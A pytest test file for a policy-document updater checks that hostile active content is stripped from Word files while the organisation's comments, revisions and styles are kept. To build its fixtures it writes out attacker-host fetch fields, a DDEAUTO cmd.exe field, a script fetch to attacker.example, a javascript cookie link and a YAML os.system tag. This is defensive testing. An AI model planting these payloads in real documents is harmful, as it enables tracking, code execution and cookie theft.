"""The living policy (issue 22) read as hostile input (issue 23), both at once: an adopted policy that holds
what an organisation legitimately adds (comments, footnotes, a colleague's pending revisions, its own style
and list numbering, internal images) AND what may act or reach out when the file is opened (fields that
fetch or run, remote and UNC images, OLE links, imported HTML, a javascript: link, macros). The update reads
it through the package check first and then keeps the whole *cleaned* document: the active content is
removed and said (the update's notes, report.csv's 'removed' column, ``--check``, ``--dry-run``), everything
else is kept as the living-policy tests require. Every output is parsed (tests/docx_check.py, written apart
from the module it checks) to prove nothing active went into the new version.

Also: the new options of issue 22 under issue 23's rules (bounds on --base, --answers read safely and
validated, the adoption options as one-line texts, no output written over an input, folder runs refusing
per-policy options), and the wizard's isolated update with the new options."""

from __future__ import annotations

import csv
import io
import zipfile

import docx
import pytest
from click.testing import CliRunner
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from balises.cli.main import main
from balises.contract.profile import load_profile
from balises.packs.loader import load_pack
from balises.render.docx import docx_of
from balises.render.docx.package import clean_adopted
from balises.render.embedding import read_payload
from balises.services import generate as api
from balises.services.update import check, update

from . import docx_edits as ed
from . import policy_life as pl
from .conftest import EXAMPLES
from .docx_check import active_content
from .test_living_policy import _without_data  # the policy as Google Docs or a copy into a new file gives it back

STUDIO = EXAMPLES / "animation-studio-france.yaml"
ATTACKER = "http://attacker.example"
# the organisation's legitimate edits kept through the hostile content (policy_life's Word edits)
LEGITIMATE = ("comment", "footnote", "endnote", "pending_insert", "pending_delete", "pending_paragraph", "style",
              "renumber", "header_logo", "image", "footer", "reword")
T_FIELD_RESULT = "Logo du partenaire"  # what an INCLUDEPICTURE field showed: kept as text
T_LINK_TEXT = "formulaire en ligne"
SPOT = "La présente politique, adoptée par"  # the hostile paragraphs go after it (body text, not numbered)
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'  # the text of a javascript: link: kept, the link goes


def _field(code: str, shown: str) -> str:
    return (f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
            f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r {nsdecls("w")}><w:t>{shown}</w:t></w:r>'
            f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>')


def _append(paragraph_el, xml: str) -> None:
    wrapper = parse_xml(f'<w:p {nsdecls("w", "r")} {VML}>{xml}</w:p>')
    for child in list(wrapper):
        paragraph_el.append(child)


def hostile(document) -> None:
    """What an attacker (or a careless template) leaves in an adopted policy, in a python-docx Document: each
    piece in a paragraph of its own or inside the organisation's text, the way Word writes it."""
    part = document.part
    # a field that fetches a picture, inside a paragraph the organisation did not touch
    owner = ed.find(document, "La présente politique, adoptée par")
    _append(owner._p, _field(f'INCLUDEPICTURE "{ATTACKER}/pixel.png" \\d', T_FIELD_RESULT))
    # a field that runs a program, in a paragraph of its own
    dde = ed.add_after(ed.find(document, "Des outils d'IA sont déjà à l'essai"), "Tableau de suivi : ")
    _append(dde._p, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc.exe"', "0"))
    # a remote picture (DrawingML linked picture, what LibreOffice fetches) and a UNC one (VML)
    remote = ed.picture_after(ed.find(document, SPOT))
    blip = next(remote._p.iter(qn("a:blip")))
    link = part.relate_to(f"{ATTACKER}/logo.png", RT.IMAGE, is_external=True)
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), link)
    unc = part.relate_to("\\\\attacker.example\\share\\tracker.png", RT.IMAGE, is_external=True)
    _append(ed.add_after(ed.find(document, SPOT), "")._p,
            f'<w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="{unc}"/></v:shape>'
            f'</w:pict></w:r>')
    # an OLE link that updates itself on opening
    ole = part.relate_to("file:///C:/Finances/budget.xlsx", RT.OLE_OBJECT, is_external=True)
    _append(ed.add_after(ed.find(document, SPOT), "")._p,
            f'<w:r><w:object><v:shape style="width:9pt;height:9pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
            f'r:id="{ole}" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
            f'</w:object></w:r>')
    # imported HTML with a script (altChunk and its part)
    html = Part(PackURI("/word/afchunk1.html"), "text/html",
                b"<html><body><script>fetch('http://attacker.example/x')</script><p>importe</p></body></html>",
                part.package)
    chunk = part.relate_to(html, RT.A_F_CHUNK)
    ed.find(document, SPOT)._p.addnext(parse_xml(f'<w:altChunk {nsdecls("w", "r")} r:id="{chunk}"/>'))
    # a javascript: link around the organisation's words
    js = part.relate_to("javascript:alert(document.cookie)", RT.HYPERLINK, is_external=True)
    _append(ed.add_after(ed.find(document, SPOT), "Remplir le ")._p,
            f'<w:hyperlink r:id="{js}"><w:r><w:t>{T_LINK_TEXT}</w:t></w:r></w:hyperlink>')
    # a field that includes a remote text, in the footer
    footer = document.sections[0].footer
    _append(footer.paragraphs[0]._p, _field(f'INCLUDETEXT "{ATTACKER}/footer.docx"', " "))


def _edited(adopted: bytes, ids=LEGITIMATE, with_hostile: bool = True) -> bytes:
    document = ed.open_docx(adopted)
    for edit in pl.WORD_EDITS:
        if edit.id in ids:
            edit.make(document)
    if with_hostile:
        hostile(document)
    return ed.save(document)


@pytest.fixture(scope="module")
def adopted() -> bytes:
    return api.generate(load_profile(STUDIO), load_pack(), lang="fr", as_of=pl.ADOPTED_ON).docx


@pytest.fixture(scope="module")
def both(adopted) -> bytes:
    return _edited(adopted)


REMOVED_WORDS = ("INCLUDEPICTURE", "DDEAUTO", "INCLUDETEXT", "altChunk", "OLE", "javascript", "attacker.example")


def _said(lines: list[str], words=REMOVED_WORDS) -> list[str]:
    text = "\n".join(lines)
    return [w for w in words if w.lower() not in text.lower()]


def test_the_hostile_edited_policy_holds_both_before_the_update(both):
    """The test document is what it says: active content the checker finds, and the organisation's edits."""
    found = "\n".join(active_content(both))
    for word in ("INCLUDEPICTURE", "DDEAUTO", "INCLUDETEXT", "altChunk", "OLEObject", "javascript", "attacker",
                 "text/html"):
        assert word.lower() in found.lower(), (word, found)
    assert [t for a, t, _ in pl.comments(both) if t == pl.T_COMMENT]
    assert (pl.T_FOOTNOTE, True) in pl.notes(both)
    assert pl.revisions(both, ed.AUTHOR)


def test_update_removes_the_active_content_says_so_and_keeps_the_whole_cleaned_document(both):
    cleaned = clean_adopted(both, "adopted.docx")
    assert cleaned.findings and active_content(cleaned.to_bytes()) == []
    result = update(both, as_of=pl.LAW_DATE, source="adopted.docx")
    assert active_content(result.docx) == [], active_content(result.docx)  # parsed, part by part
    assert result.version == "2.0" and not result.unchanged
    lines = result.lines("en")
    assert _said([line for line in lines if "removed from your document" in line]) == [], lines
    assert result.report()["removed"] and "INCLUDEPICTURE" in result.report()["removed"]
    # everything else is kept: each legitimate edit as the living-policy tests want it
    look = pl.Look(cleaned.to_bytes(), result.docx, lines)
    for edit in pl.WORD_EDITS:
        if edit.id in LEGITIMATE:
            assert edit.look(look) == pl.KEPT, edit.id
    new_text = docx_of(result.document, load_pack())
    assert pl.problems(cleaned.to_bytes(), result.docx, new_text, "2.0") == []
    # the colleague's revisions are still theirs, Balises' are Balises'
    assert pl.revisions(result.docx, ed.AUTHOR) and pl.revisions(result.docx, "Balises")
    # what a removed field or link showed stays as text; the internal images stay
    assert look.accepted.has(T_FIELD_RESULT) and look.accepted.has(T_LINK_TEXT)
    # the board reads in the summary block that something was removed (the addresses stay in the report)
    assert look.accepted.has("Balises a retiré de votre document")
    assert not [t for t in look.accepted.texts if "attacker.example" in t]
    with zipfile.ZipFile(io.BytesIO(result.docx)) as archive:
        images = [n for n in archive.namelist() if n.startswith("word/media/")]
        assert len(images) >= 2, images  # the body image and the header logo (the remote one has none)
        assert not [n for n in archive.namelist() if n.endswith(".html")]


def test_a_hostile_policy_updated_twice_stays_clean_and_keeps_the_organisation_s_edits(both):
    first = update(both, as_of=pl.LAW_DATE)
    second = update(first.docx, as_of=pl.LAW_DATE)  # nothing more to remove, nothing more to change
    assert second.same_bytes and second.docx == first.docx and not second.removed


def test_a_no_change_update_of_a_hostile_policy_writes_the_cleaned_file_not_the_same_bytes(adopted, tmp_path):
    data = _edited(adopted, ids=("comment", "footnote", "pending_insert"))
    result = update(data, as_of=pl.ADOPTED_ON)
    assert result.unchanged and not result.same_bytes and result.docx != data
    assert active_content(result.docx) == []
    assert result.lines("en")[0].startswith("No change by Balises: the document stays as it is, less what was")
    cleaned = clean_adopted(data, "x").to_bytes()
    for accept in (True, False):
        assert pl.View(result.docx, accept).body_texts() == pl.View(cleaned, accept).body_texts()
    assert pl.comments(result.docx) == pl.comments(data) and pl.notes(result.docx) == pl.notes(data)
    assert pl.revisions(result.docx, ed.AUTHOR) == pl.revisions(data, ed.AUTHOR)
    (tmp_path / "adopted.docx").write_bytes(data)
    out = CliRunner().invoke(main, ["update", str(tmp_path / "adopted.docx"), "-o", str(tmp_path / "same.docx"),
                                    "--as-of", "2026-07-01"])
    assert out.exit_code == 0 and "less what was removed" in out.output and "the same bytes" not in out.output
    assert active_content(tmp_path / "same.docx") == []


def test_check_and_dry_run_go_through_the_same_package_check(both, tmp_path):
    (tmp_path / "adopted.docx").write_bytes(both)
    runner = CliRunner()
    result = runner.invoke(main, ["update", str(tmp_path / "adopted.docx"), "--check"])
    assert result.exit_code == 0, result.output  # no conflict to settle
    assert _said([line for line in result.output.splitlines() if "to be removed" in line]) == [], result.output
    assert f"pending revision(s) by {ed.AUTHOR}" in result.output
    assert [c.removed for c in [check(both, "adopted.docx")]][0]
    result = runner.invoke(main, ["update", str(tmp_path / "adopted.docx"), "--dry-run", "--as-of", "2026-08-02",
                                  "--json"])
    assert result.exit_code == 0 and "Dry run: nothing written." in result.output
    assert "INCLUDEPICTURE" in result.output and sorted(p.name for p in tmp_path.iterdir()) == ["adopted.docx"]


def test_a_folder_update_reports_what_it_removed_and_writes_only_clean_files(adopted, both, tmp_path):
    members = tmp_path / "members"
    members.mkdir()
    (members / "hostile.docx").write_bytes(both)
    (members / "honest.docx").write_bytes(_edited(adopted, ids=("comment", "footnote"), with_hostile=False))
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["update", str(members), "-o", str(out), "--as-of", "2026-08-02", "-j", "1"])
    assert result.exit_code == 0, result.output
    with open(out / "report.csv", newline="", encoding="utf-8") as fh:
        rows = {row["row"]: row for row in csv.DictReader(fh)}
    assert "INCLUDEPICTURE" in rows["hostile.docx"]["removed"] and "altChunk" in rows["hostile.docx"]["removed"]
    assert rows["honest.docx"]["removed"] == ""
    for name in ("hostile.docx", "honest.docx"):
        assert active_content(out / name) == []
        assert [t for a, t, ok in pl.comments((out / name).read_bytes()) if t == pl.T_COMMENT and ok]


def test_a_folder_update_refuses_the_options_of_one_policy(adopted, tmp_path):
    members = tmp_path / "members"
    members.mkdir()
    (members / "a.docx").write_bytes(adopted)
    for option in (["--adopted-on", "2026-08-01"], ["--base", str(members / "a.docx")], ["--effective", "2026-09-01"],
                   ["--version", "9.0"]):
        result = CliRunner().invoke(main, ["update", str(members), "-o", str(tmp_path / "out"), *option])
        assert result.exit_code == 2 and option[0] in result.output and "not for a folder" in result.output
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- a policy that lost its data, recovered

def test_a_policy_that_lost_its_data_and_carries_an_includepicture_field_is_recovered_clean(adopted, tmp_path):
    lost = _without_data(_edited(adopted, ids=("comment", "footnote", "pending_insert", "add")))
    document = ed.open_docx(lost)
    _append(ed.find(document, "La présente politique, adoptée par")._p,
            _field(f'INCLUDEPICTURE "{ATTACKER}/pixel.png" \\d', T_FIELD_RESULT))
    lost = ed.save(document)
    (tmp_path / "lost.docx").write_bytes(lost)
    (tmp_path / "original.docx").write_bytes(adopted)
    result = CliRunner().invoke(main, ["update", str(tmp_path / "lost.docx"), "--base", str(tmp_path / "original.docx"),
                                       "-o", str(tmp_path / "v2.docx"), "--as-of", "2026-08-02"])
    assert result.exit_code == 0, result.output
    assert "removed from your document" in result.output and "INCLUDEPICTURE" in result.output
    updated = (tmp_path / "v2.docx").read_bytes()
    assert active_content(updated) == [] and read_payload(updated)["version"] == "2.0"
    assert pl.View(updated, True).has(pl.T_ADDED) and pl.View(updated, True).has(T_FIELD_RESULT)
    cleaned = clean_adopted(lost, "lost.docx").to_bytes()
    again = update(lost, as_of=pl.LAW_DATE, base_docx=adopted)
    assert pl.problems(cleaned, again.docx, docx_of(again.document, load_pack()), "2.0") == []


def test_a_hostile_base_is_checked_with_the_same_bounds_and_nothing_of_it_is_carried(adopted, tmp_path):
    lost = _without_data(adopted)
    # a base with active content: its answers and text are used, nothing of its package
    base_hostile = _edited(adopted, ids=())
    result = update(lost, as_of=pl.LAW_DATE, base_docx=base_hostile)
    assert active_content(result.docx) == [] and result.version == "2.0"
    # a base over the bounds: exit 2, the --base file named
    (tmp_path / "lost.docx").write_bytes(lost)
    with zipfile.ZipFile(io.BytesIO(adopted)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    document = parts["word/document.xml"].decode()
    at = document.rindex("<w:sectPr")
    parts["word/document.xml"] = (document[:at] + "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 20_001
                                  + document[at:]).encode()
    with zipfile.ZipFile(tmp_path / "many.docx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    runner = CliRunner()
    result = runner.invoke(main, ["update", str(tmp_path / "lost.docx"), "--base", str(tmp_path / "many.docx"),
                                  "-o", str(tmp_path / "v2.docx")])
    assert result.exit_code == 2 and "(--base)" in result.output and "too many paragraphs" in result.output
    assert not (tmp_path / "v2.docx").exists()
    with zipfile.ZipFile(io.BytesIO(adopted)) as archive:  # a base whose document declares a DTD (entities)
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"?>", b'?><!DOCTYPE w:document [<!ENTITY e "x">]>', 1)
    with zipfile.ZipFile(tmp_path / "dtd.docx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    result = runner.invoke(main, ["update", str(tmp_path / "lost.docx"), "--base", str(tmp_path / "dtd.docx"),
                                  "-o", str(tmp_path / "v2.docx")])
    assert result.exit_code == 2 and "(--base)" in result.output and "DTD" in result.output, result.output


# ---------------------------------------------------------------- the new options under issue 23's rules

@pytest.mark.parametrize("answers,words", [
    ("organisation:\n  name: &a [*a]\n", ("yaml",)),  # a recursive alias
    ("organisation:\n  name: !!python/object/apply:os.system ['echo pwned']\n", ("python",)),
    ("organisation:\n  name: \"Studio\\nLumen\"\n  jurisdiction: france\n  sector: film_animation\n"
     "  employees: 40\n", ("organisation.name", "control characters")),
    ("organisation:\n  employees: 1" + "0" * 5000 + "\n", ("digits",)),
], ids=["alias-loop", "python-tag", "newline-in-name", "5000-digits"])
def test_answers_are_read_safely_and_validated_like_any_answers_file(adopted, tmp_path, answers, words):
    (tmp_path / "adopted.docx").write_bytes(adopted)
    (tmp_path / "answers.yaml").write_text(answers, encoding="utf-8")
    result = CliRunner().invoke(main, ["update", str(tmp_path / "adopted.docx"), "--answers",
                                       str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "v2.docx")])
    assert result.exit_code == 2, result.output
    assert "internal error" not in result.output and "Traceback" not in result.output
    for word in words:
        assert word.lower() in result.output.lower(), (word, result.output)
    assert not (tmp_path / "v2.docx").exists()


def test_answers_over_the_size_limit_are_refused(adopted, tmp_path):
    (tmp_path / "adopted.docx").write_bytes(adopted)
    (tmp_path / "answers.yaml").write_text("# " + "x" * (3 * 1024 * 1024) + "\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["update", str(tmp_path / "adopted.docx"), "--answers",
                                       str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "v2.docx")])
    assert result.exit_code == 2 and "too large" in result.output.lower(), result.output


@pytest.mark.parametrize("option,value", [("--adopted-by", "Conseil\nd'administration"),
                                          ("--adopted-by", "C\x1b]0;pwned\x07A"), ("--version", "2.0\r\nX"),
                                          ("--adopted-on", "9999-12-31"), ("--effective", "1900-01-01")])
def test_adoption_options_are_checked_as_the_answers_fields_are(adopted, tmp_path, option, value):
    (tmp_path / "adopted.docx").write_bytes(adopted)
    result = CliRunner().invoke(main, ["update", str(tmp_path / "adopted.docx"), option, value,
                                       "-o", str(tmp_path / "v2.docx")])
    assert result.exit_code == 2 and option in result.output, result.output
    assert "\x1b" not in result.output and not (tmp_path / "v2.docx").exists()


@pytest.mark.parametrize("case", ["output-is-base", "output-is-answers", "ack-is-adopted", "ack-is-output",
                                  "ack-is-base"])
def test_no_output_is_written_over_an_input_of_the_update(adopted, tmp_path, case):
    adopted_path, base, answers = tmp_path / "adopted.docx", tmp_path / "original.docx", tmp_path / "answers.yaml"
    adopted_path.write_bytes(adopted)
    base.write_bytes(adopted)
    answers.write_text(STUDIO.read_text(encoding="utf-8"), encoding="utf-8")
    output, ack = {"output-is-base": (base, None), "output-is-answers": (answers, None),
                   "ack-is-adopted": (tmp_path / "v2.docx", adopted_path),
                   "ack-is-output": (tmp_path / "v2.docx", tmp_path / "v2.docx"),
                   "ack-is-base": (tmp_path / "v2.docx", base)}[case]
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    args = ["update", str(adopted_path), "--base", str(base), "--answers", str(answers), "-o", str(output),
            "--as-of", "2026-08-02"] + (["--acknowledgements", str(ack)] if ack else [])
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2 and "is also one of the command's inputs" in result.output, result.output
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


# ---------------------------------------------------------------- the wizard's update, in its child process

def test_the_wizard_s_isolated_update_takes_the_new_options_and_cleans_the_file(adopted):
    import datetime as dt

    import yaml

    from balises.contract.profile import parse_profile
    from balises.services.isolated import UpdateOptions, update_isolated

    lost = _without_data(_edited(adopted, ids=("comment",)))
    data = yaml.safe_load(STUDIO.read_text(encoding="utf-8"))
    next(t for t in data["tools"] if t["name"] == "Midjourney").update(status="approved", account="business")
    answers = parse_profile(data, "answers")
    summary = update_isolated(lost, None, "lost.docx", as_of=pl.LAW_DATE,
                              options=UpdateOptions(answers=answers, base_docx=_edited(adopted, ids=()),
                                                    effective=dt.date(2026, 11, 2)))  # past the two months France's internal rules need
    assert summary.version == "2.0" and summary.material and summary.acknowledgements
    assert active_content(summary.docx) == []
    assert docx.Document(io.BytesIO(summary.acknowledgements)).paragraphs
    assert any("2 novembre 2026" in line for line in summary.lines["fr"])
    hostile_doc = _edited(adopted, ids=("comment",))
    summary = update_isolated(hostile_doc, None, "adopted.docx", as_of=pl.LAW_DATE,
                              options=UpdateOptions(adopted_on=dt.date(2026, 7, 10), adopted_by="Bureau"))
    assert active_content(summary.docx) == []
    assert _said([line for line in summary.lines["en"] if "removed" in line]) == []
    with pytest.raises(Exception) as caught:  # the adopting body is one line, in the wizard too
        update_isolated(adopted, None, "adopted.docx", options=UpdateOptions(adopted_by="Bureau\nX"))
    assert "--adopted-by" in str(caught.value)
